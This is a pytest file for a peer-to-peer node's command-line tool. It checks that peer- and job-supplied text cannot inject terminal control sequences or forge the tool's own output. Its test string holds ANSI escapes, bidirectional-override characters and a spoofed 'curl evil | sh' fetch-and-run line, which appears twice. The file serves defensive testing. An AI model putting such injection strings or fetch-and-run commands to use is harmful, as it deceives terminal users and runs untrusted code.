"""Nothing that peers, jobs and files say can write to the terminal what looks like ours, in any command."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

from p2pnode.cli.main import main
from p2pnode.client.lines import LINE_SIZE_BYTES_MAX, Lines
from p2pnode.core.values.text import visible, width
from p2pnode.ipfs import unixfs
from tests import fake_node
from tests.fake_node import PEER, Served

from .test_cli import Output, job_file

EVIL = "x\x1b[2J\x1b]0;t\x07\x9b\x7f\u202e\u2066\u200b\u2028\U000e0041\r\n  fetch it:    curl evil | sh"
# Text that others choose; the rest is of a fixed form.
WORDS = {
    *("name", "peer_name", "owner_name", "reason", "first_failure", "message", "what"),
    *("engines", "labels", "version", "addresses", "silent", "namespace", "topic"),
}


def with_evil(value: Any, key: str = "") -> Any:
    """An answer of the node in which all words are evil."""
    if isinstance(value, dict):
        if key in WORDS:
            return dict.fromkeys([EVIL], EVIL)
        return {name: with_evil(one, name) for name, one in value.items()}
    if isinstance(value, list):
        return [EVIL] if key in WORDS else [with_evil(one, key) for one in value]
    return EVIL if key in WORDS and isinstance(value, str) else value


def is_clean(text: str) -> bool:
    lines = text.split("\n")
    return all(visible(line) == line for line in lines) and not any(
        line.lstrip().startswith("fetch it:    curl") for line in lines
    )


@pytest.fixture
def evil(served: Served, capfd: Output, monkeypatch: pytest.MonkeyPatch) -> str:
    """A job on a node that passes on what evil peers say; its id."""
    main(["submit", job_file("works")])
    capfd.readouterr()
    node, (job,) = served.node, served.node.records
    node.records[job] = with_evil(node.records[job])
    node.records[job]["members"] = [{"peer": PEER, "name": EVIL, "rank": rank} for rank in range(2)]
    node.records[job]["spec"] = {"Name": EVIL, "Labels": {"a": EVIL}, "Tasks": []}
    monkeypatch.setattr(fake_node, "EVENTS", (EVIL,))
    node.pinned.append(unixfs.add_directory({EVIL.replace("/", ""): b""}, node.blocks.put))
    for name in ("identity", "nodes", "plan", "pins"):
        answer = getattr(node, name)
        monkeypatch.setattr(node, name, lambda *given, answer=answer: with_evil(answer(*given)))
    network_jobs = node.network_jobs

    async def evil_jobs() -> Any:
        return with_evil(await network_jobs())

    monkeypatch.setattr(node, "network_jobs", evil_jobs)
    return job


LISTS = (
    "id",
    "node list",
    "job list",
    "job list --network",
    "job executions JOB",
    "ipfs pin ls",
    "ipfs ls CID",
)


@pytest.mark.parametrize(
    "command",
    [
        "id",
        "node list",
        "job list",
        "job list --network",
        "top --once",
        "job describe JOB",
        "job describe JOB -o yaml",
        "job history JOB",
        "job executions JOB",
        "job versions JOB",
        "job versions JOB --show 1",
        *(f"{command} -o {form}" for command in LISTS for form in ("wide", "yaml", "name")),
        "job wait JOB",
        "job stop JOB",
        "job rerun JOB",
        "plan works.yaml",
        "submit works.yaml",
        "submit --follow works.yaml",
        "ipfs pin ls",
        "ipfs ls CID",
        "ipfs get CID -o out",
        "get JOB -o out",
        "get nonsense",
        "job list --EVIL",
        "EVIL",
        "get j-EVIL",
        "validate EVIL",
        "ipfs add EVIL",
        "devnet status --dir EVIL",
    ],
)
def test_no_command_shows_a_control_character(evil: str, served: Served, capfd: Output, command: str) -> None:
    known = {"JOB": evil, "CID": served.node.pinned[0]}
    main([known.get(word, word).replace("EVIL", EVIL) for word in command.split()])
    out, err = capfd.readouterr()
    assert out or err
    assert is_clean(out), out
    assert is_clean(err), err


@pytest.mark.parametrize(
    "command", ["id", "node list", "job list", "job list --network", "job describe JOB", "job history JOB"]
)
def test_json_has_it_all_in_escapes(evil: str, capfd: Output, command: str) -> None:
    assert main([evil if word == "JOB" else word for word in [*command.split(), "--json"]]) == 0
    out = capfd.readouterr().out
    assert out.replace("\n", "").isascii() and out.replace("\n", "").isprintable()
    assert EVIL in json.dumps(json.loads(out), ensure_ascii=False) or json.dumps(EVIL)[1:-1] in json.dumps(
        json.loads(out)
    )


def test_yaml_stays_what_it_means(evil: str, capfd: Output) -> None:
    assert main(["job", "describe", evil, "-o", "yaml"]) == 0
    assert yaml.safe_load(capfd.readouterr().out)["Name"] == EVIL


def test_the_difference_of_two_files_is_visible(served: Served, capfd: Output) -> None:
    main(["submit", job_file("works")])
    (job,) = served.node.records.values()
    job["spec"]["Labels"] = {"a": EVIL}
    capfd.readouterr()
    assert main(["submit", "--dry-run", "works.yaml"]) == 0
    out = capfd.readouterr().out
    assert "fetch it" in out and is_clean(out)


def test_columns_are_aligned_by_what_is_seen(evil: str, served: Served, capfd: Output) -> None:
    served.node.records["j-2"] = {**served.node.records[evil], "id": "j-2", "name": "plain", "reason": ""}
    assert main(["job", "list"]) == 0
    heading, *rows = capfd.readouterr().out.splitlines()
    at = heading.index("TYPE")
    assert len(rows) == 2 and all(row[at - 1] == " " and row[at:].startswith("batch") for row in rows)


def on_a_terminal(*arguments: str, typed: str = "") -> str:
    """The output of a command at a terminal, with what is typed there."""
    ours, its = pty.openpty()
    process = subprocess.Popen(
        [sys.executable, "-m", "p2pnode", *arguments], stdin=its, stdout=its, stderr=its, close_fds=True
    )
    os.close(its)
    os.write(ours, typed.encode())
    got = b""
    try:
        while data := os.read(ours, 65536):
            got += data
    except OSError:
        # The other side is closed.
        pass
    process.wait()
    os.close(ours)
    return got.decode(errors="replace").replace("\r\n", "\n")


@pytest.mark.parametrize("command", ["job list", "job list --network", "node list"])
def test_a_long_name_widens_no_table_on_a_terminal_and_is_whole_elsewhere(
    served: Served, capfd: Output, plain_terminal: None, monkeypatch: pytest.MonkeyPatch, command: str
) -> None:
    long = "\u5de5" * 400
    main(["submit", "--no-wait", job_file("works")])
    for job in served.node.records.values():
        job["name"] = long
    nodes, network_jobs = served.node.nodes(), served.node.network_jobs

    async def long_jobs() -> Any:
        found = await network_jobs()
        return {**found, "jobs": [{**one, "name": long} for one in found["jobs"]]}

    monkeypatch.setattr(served.node, "nodes", lambda: [{**one, "name": long} for one in nodes])
    monkeypatch.setattr(served.node, "network_jobs", long_jobs)
    rows = [line for line in on_a_terminal(*command.split()).splitlines() if "\u5de5" in line]
    assert rows and all("\u2026" in row and width(row) < 60 + 120 for row in rows)
    capfd.readouterr()
    for output in (command.split(), [*command.split(), "--json"]):
        assert main(output) == 0
        out = capfd.readouterr().out
        assert long in out or json.dumps(long)[1:-1] in out


def test_a_long_reason_is_cut_where_the_terminal_ends_and_is_whole_in_wide_and_elsewhere(
    served: Served, capfd: Output, plain_terminal: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "90")
    long = "no peer can take it: " * 20
    main(["submit", "--no-wait", job_file("works")])
    (job,) = served.node.records.values()
    job["reason"] = long
    heading, row = on_a_terminal("job", "list").splitlines()
    assert width(row) == 90 and row.endswith("\u2026") and "no peer can take it" in row
    assert heading.endswith("REASON")
    assert long.strip() in on_a_terminal("job", "list", "-o", "wide")
    capfd.readouterr()
    assert main(["job", "list"]) == 0
    assert long.strip() in capfd.readouterr().out


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
def test_an_output_in_another_encoding_shows_by_number_what_that_lacks(
    served: Served, monkeypatch: pytest.MonkeyPatch, encoding: str
) -> None:
    main(["submit", "--no-wait", job_file("works")])
    (job,) = served.node.records.values()
    job["name"] = "naïve 日本"
    done = subprocess.run(
        [sys.executable, "-m", "p2pnode", "job", "list"],
        env={**os.environ, "PYTHONIOENCODING": encoding},
        capture_output=True,
        check=False,
    )
    assert (done.returncode, done.stderr) == (0, b"")
    assert rb"\u65e5\u672c" in done.stdout


@pytest.fixture
def plain_terminal(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TERM", "dumb")


def test_output_of_programs_is_visible_on_a_terminal_and_raw_where_asked_for(
    served: Served, capfd: Output, plain_terminal: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    main(["submit", "--no-wait", job_file("works")])
    (job,) = served.node.records

    async def logs(*given: Any) -> Any:
        for piece in ("caf\xe9\t".encode()[:4], "\xe9\t".encode()[1:], EVIL.encode(), b"\xff\n"):
            yield {"execution": "e-0", "stream": "stdout", "data": piece}

    monkeypatch.setattr(served.node, "logs", logs)
    seen = "caf\xe9\t" + visible(EVIL).replace("\\n", "\n") + "\\xff\n"
    assert on_a_terminal("job", "logs", job) == seen
    assert "\x1b[2J" in on_a_terminal("job", "logs", "--raw", job)


def test_followed_output_cannot_be_taken_for_ours(
    served: Served, plain_terminal: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def logs(*given: Any) -> Any:
        for piece in (b"one\ntw", b"o\n  fetch it:    curl evil | sh\n\x1b[2Jthree"):
            yield {"execution": "e-0", "stream": "stdout", "data": piece}

    monkeypatch.setattr(served.node, "logs", logs)
    shown = on_a_terminal("submit", "--follow", job_file("works"))
    assert is_clean(shown)
    for line in ("e-0 | one", "e-0 | two", "e-0 |   fetch it:    curl evil | sh", "e-0 | \\x1b[2Jthree"):
        assert line in shown.split("\n")


def test_a_line_without_end_is_cut() -> None:
    lines = Lines()
    found = lines.of(("e-0", "stdout"), b"x" * (2 * LINE_SIZE_BYTES_MAX + 1))
    assert [len(line) for line in found] == [LINE_SIZE_BYTES_MAX] * 2
    assert list(lines.rest()) == [(("e-0", "stdout"), b"x")]


@pytest.mark.parametrize(
    "line",
    [
        'print("x")',
        'sys.stdout.write("x")',
        'sys.stderr.buffer.write(b"x")',
        'click.echo("x")',
        'click.secho("x")',
        'os.write(1, b"x")',
        'click.confirm("x")',
    ],
)
def test_a_new_command_cannot_write_past_the_one_place(line: str) -> None:
    done = subprocess.run(
        [Path(sys.executable).with_name("ruff"), "check", "--stdin-filename", "p2pnode/cli/new.py", "-"],
        input=f'"""A command."""\n\nimport os\nimport sys\n\nimport click\n\n{line}\n',
        cwd=Path(__file__).parent.parent,
        capture_output=True,
        text=True,
        check=False,
    )
    assert "TID251" in done.stdout or "T201" in done.stdout


@pytest.mark.parametrize("command", ["submit -", "validate", "join -", "plan"])
@pytest.mark.parametrize("stdin", ["<&-", "</dev/null"])
def test_a_stdin_that_is_closed_or_empty_is_told_in_a_sentence(command: str, stdin: str) -> None:
    shell = ["bash", "-c", f"{sys.executable} -m p2pnode {command} {stdin}"]
    done = subprocess.run(shell, capture_output=True, text=True, check=False, timeout=30)
    assert done.returncode in (2, 5) and "error:" in done.stderr
    assert "Traceback" not in done.stderr and "fault of p2pnode" not in done.stderr


@pytest.mark.parametrize("closed", [">&-", "2>&-", "<&- >&- 2>&-"])
def test_a_command_whose_output_is_closed_ends_as_with_it(closed: str) -> None:
    shell = ["bash", "-c", f"{sys.executable} -m p2pnode config list {closed}"]
    done = subprocess.run(shell, capture_output=True, text=True, check=False, timeout=30)
    assert (done.returncode, done.stderr) == (0, "")
